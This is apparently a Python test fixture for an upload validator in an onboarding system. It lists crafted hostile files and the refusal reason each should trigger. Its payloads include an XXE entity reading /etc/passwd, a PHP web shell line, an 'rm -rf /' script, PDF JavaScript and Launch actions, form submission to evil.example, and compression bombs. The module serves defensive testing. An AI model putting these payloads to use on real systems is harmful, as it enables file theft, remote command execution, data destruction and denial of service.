"""Hostile files, made in code: name, content, and why it is refused."""

import zlib

from onboarding.lib.uploads.refusals import Reason
from tests.uploads import pdf
from tests.uploads.files import Sent, locked_pdf, picture, png_chunk, png_of, zipped

JS = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
PASSPORT_FOOT = (
    "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<\n"
    "L898902C36UTO7408122F1204159ZE184226B<<<<<10"
)


def _act(body):
    return pdf.make(catalog=b"/OpenAction 10 0 R", extra=[body])


def _note(body):
    return pdf.make(page=b"/Annots [10 0 R]", extra=[body])


def _looped_pages():
    return pdf.make().replace(b"/Kids [100 0 R]", b"/Kids [2 0 R]  ")


def _bomb():
    packed = zlib.compress(bytes(300_000_000), 9)
    return pdf.make(content=pdf.stream(packed, b"/Filter /FlateDecode"))


_R = Reason
HOSTILE = [
    # The name.
    Sent("program behind a PDF", "contract.pdf.exe", pdf.make(), _R.WRONG_NAME),
    Sent("photo called PDF", "contract.pdf", picture(), _R.WRONG_NAME),
    Sent("PDF called photo", "card.jpg", pdf.make(), _R.WRONG_NAME),
    Sent("PDF called HTML", "card.html", pdf.make(), _R.WRONG_NAME),
    Sent("name read backward", "card\u202efdp.exe", pdf.make(), _R.WRONG_NAME),
    Sent("passport by name", "My_Passport_scan.pdf", pdf.make(), _R.NAMES_A_VISA_PAPER),
    Sent("DS-2019 by name", "ds2019.pdf", pdf.make(), _R.NAMES_A_VISA_PAPER),
    Sent("SSN card by name", "ssn-card.jpg", picture(), _R.NAMES_A_VISA_PAPER),
    Sent("SSN in the name", "219-09-9999.pdf", pdf.make(), _R.NUMBER_IN_NAME),
    Sent("SSN with underscores", "a_219_09_9999.pdf", pdf.make(), _R.NUMBER_IN_NAME),
    Sent("passport in the name", "AB1234567.jpg", picture(), _R.NUMBER_IN_NAME),
    # Other kinds.
    Sent("nothing", "contract.pdf", b"", _R.EMPTY),
    Sent("Windows program", "contract.pdf", b"MZ" + bytes(500), _R.PROGRAM),
    Sent("Linux program", "contract.pdf", b"\x7fELF" + bytes(500), _R.PROGRAM),
    Sent("script", "contract.pdf", b"#!/bin/sh\nrm -rf /\n", _R.PROGRAM),
    Sent("Java class", "a.jpg", b"\xca\xfe\xba\xbe" + bytes(50), _R.PROGRAM),
    Sent("shortcut", "a.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(50), _R.PROGRAM),
    Sent("Word", "a.docx", zipped(word__document_xml="<w/>"), _R.OFFICE),
    Sent("macros", "a.pdf", zipped(word__vbaProject_bin="Sub AutoOpen()"), _R.OFFICE),
    Sent(
        "old Excel", "a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9), _R.OFFICE
    ),
    Sent("rich text", "a.rtf", rb"{\rtf1 {\object\objocx}}", _R.OFFICE),
    Sent("archive", "a.zip", zipped(a_pdf="x"), _R.ARCHIVE),
    Sent("zip bomb", "a.pdf", zipped(a_bin=bytes(50_000_000)), _R.ARCHIVE),
    Sent("gzip bomb", "a.pdf", zlib.compress(bytes(50_000_000), 9, 31), _R.ARCHIVE),
    Sent("tar", "a.tar", bytes(257) + b"ustar" + bytes(250), _R.ARCHIVE),
    Sent("SVG", "a.png", b"<svg onload='alert(1)'/>", _R.WEB_PAGE),
    Sent(
        "SVG after XML",
        "a.svg",
        b"\xef\xbb\xbf<?xml version='1.0'?><svg/>",
        _R.WEB_PAGE,
    ),
    Sent("HTML", "a.pdf", b"  <!DOCTYPE html><script>alert(1)</script>", _R.WEB_PAGE),
    Sent("HTML in UTF-16", "a.jpg", "<html><script>".encode("utf-16"), _R.WEB_PAGE),
    Sent("PHP", "a.jpg", b"<?php system($_GET['x']);", _R.WEB_PAGE),
    Sent(
        "XML that reads files",
        "a.pdf",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY"
        b" y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        _R.WEB_PAGE,
    ),
    Sent("GIF", "a.gif", picture("GIF"), _R.OTHER_PICTURE),
    Sent("WebP", "a.webp", picture("WEBP"), _R.OTHER_PICTURE),
    Sent("TIFF", "a.tif", picture("TIFF"), _R.OTHER_PICTURE),
    Sent("HEIC", "a.heic", b"\0\0\0\x18ftypheic" + bytes(50), _R.HEIC),
    Sent("words", "a.txt", b"Dear coordinator, here it is.", _R.UNKNOWN),
    # PDFs that do something.
    Sent("script at the start", "a.pdf", _act(JS), _R.ACTIVE),
    Sent(
        "script in other letters",
        "a.pdf",
        _act(b"<< /S /J#61vaScrip#74 /J#53 (app.alert(1)) >>"),
        _R.ACTIVE,
    ),
    Sent(
        "script behind a reference",
        "a.pdf",
        pdf.make(catalog=b"/OpenAction << /S 10 0 R >>", extra=[b"/JavaScr#69pt"]),
        _R.ACTIVE,
    ),
    Sent("script in packed objects", "a.pdf", pdf.with_packed_object(JS), _R.ACTIVE),
    Sent(
        "script that no page leads to",
        "a.pdf",
        pdf.make(extra=[b"<< /Z << /JS (x) >> >>"]),
        _R.ACTIVE,
    ),
    Sent(
        "starts a program", "a.pdf", _act(b"<< /S /Launch /F (cmd.exe) >>"), _R.ACTIVE
    ),
    Sent(
        "sends a form away",
        "a.pdf",
        _act(b"<< /S /SubmitForm /F (https://evil.example) >>"),
        _R.ACTIVE,
    ),
    Sent(
        "opens another file",
        "a.pdf",
        _act(b"<< /S /GoToR /F (//evil.example/x) >>"),
        _R.ACTIVE,
    ),
    Sent(
        "files inside",
        "a.pdf",
        pdf.make(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>",
            extra=[b"<< /Type /Filespec >>"],
        ),
        _R.ATTACHMENTS,
    ),
    Sent(
        "pinned file",
        "a.pdf",
        _note(b"<< /Subtype /FileAttachment /FS 11 0 R >>"),
        _R.ATTACHMENTS,
    ),
    Sent("film", "a.pdf", _note(b"<< /Subtype /RichMedia >>"), _R.ATTACHMENTS),
    Sent(
        "Adobe form",
        "a.pdf",
        pdf.make(catalog=b"/AcroForm << /XFA 10 0 R >>"),
        _R.ADOBE_FORM,
    ),
    Sent("password", "a.pdf", locked_pdf(user_password="secret"), _R.LOCKED),
    Sent(
        "no changes",
        "a.pdf",
        locked_pdf(user_password="", owner_password="o"),
        _R.LOCKED,
    ),
    # PDFs that are too much.
    Sent("too many pages", "a.pdf", pdf.make(*"x" * 31), _R.TOO_MANY_PAGES),
    Sent("page bomb", "a.pdf", _bomb(), _R.TOO_MUCH_WORK),
    Sent(
        "deep as a well",
        "a.pdf",
        pdf.make(extra=[b"[" * 300 + b"]" * 300]),
        _R.TOO_MUCH_WORK,
    ),
    Sent(
        "picture bomb in a PDF",
        "a.pdf",
        pdf.make(
            extra=[pdf.stream(b"x", b"/Subtype /Image /Width 60000 /Height 60000")]
        ),
        _R.TOO_MANY_PIXELS,
    ),
    Sent("pages in a circle", "a.pdf", _looped_pages(), _R.DAMAGED),
    # PDFs that hold what we must not keep.
    Sent(
        "SSN in the text",
        "a.pdf",
        pdf.make("first", "My number is 219-09-9999"),
        _R.NUMBER_IN_TEXT,
    ),
    Sent(
        "passport in the text",
        "a.pdf",
        pdf.make("Passport No. X1234567"),
        _R.NUMBER_IN_TEXT,
    ),
    Sent("foot of a passport", "a.pdf", pdf.make(PASSPORT_FOOT), _R.NUMBER_IN_TEXT),
    Sent(
        "SSN in a note",
        "a.pdf",
        _note(b"<< /Subtype /Text /Contents (219-09-9999) >>"),
        _R.NUMBER_IN_TEXT,
    ),
    Sent(
        "SSN in the description",
        "a.pdf",
        pdf.make(info=b"/Title (219-09-9999)"),
        _R.NUMBER_IN_TEXT,
    ),
    # Damaged files.
    Sent("half a PDF", "a.pdf", pdf.make()[:300], _R.DAMAGED),
    Sent("PDF of noise", "a.pdf", b"%PDF-1.7\n" + bytes(99) + b"\n%%EOF", _R.DAMAGED),
    Sent("half a photo", "a.jpg", picture(size=(900, 900))[:1500], _R.DAMAGED),
    Sent("half a PNG", "a.png", picture("PNG")[:-20], _R.DAMAGED),
    Sent("head of a photo", "a.jpg", b"\xff\xd8\xff\xe0" + bytes(99), _R.DAMAGED),
    # Pictures that are too much.
    Sent("picture bomb", "a.png", png_of(60_000, 60_000), _R.TOO_MANY_PIXELS),
    Sent(
        "words bomb",
        "a.png",
        png_of(
            1,
            1,
            before=png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(90_000_000), 9)),
        ),
        _R.DAMAGED,
    ),
    # Two files in one.
    Sent("PDF and ZIP", "a.pdf", pdf.make() + zipped(a_exe="MZ"), _R.SECOND_FILE),
    Sent(
        "PDF around a ZIP",
        "a.pdf",
        pdf.make(extra=[pdf.stream(zipped(a_exe="MZ"))]),
        _R.SECOND_FILE,
    ),
    Sent(
        "PDF and HTML",
        "a.pdf",
        b"%PDF-1.7\n<script>alert(1)</script>\n" + pdf.make(),
        _R.SECOND_FILE,
    ),
    Sent("other PDF first", "a.pdf", b"GARBAGE\n" + pdf.make(), _R.SECOND_FILE),
    Sent("photo and ZIP", "a.jpg", picture() + zipped(a_jar="x"), _R.SECOND_FILE),
    Sent("photo and HTML", "a.jpg", picture() + b"<script>x</script>", _R.SECOND_FILE),
    Sent("PNG and PDF", "a.png", picture("PNG") + pdf.make(), _R.SECOND_FILE),
]
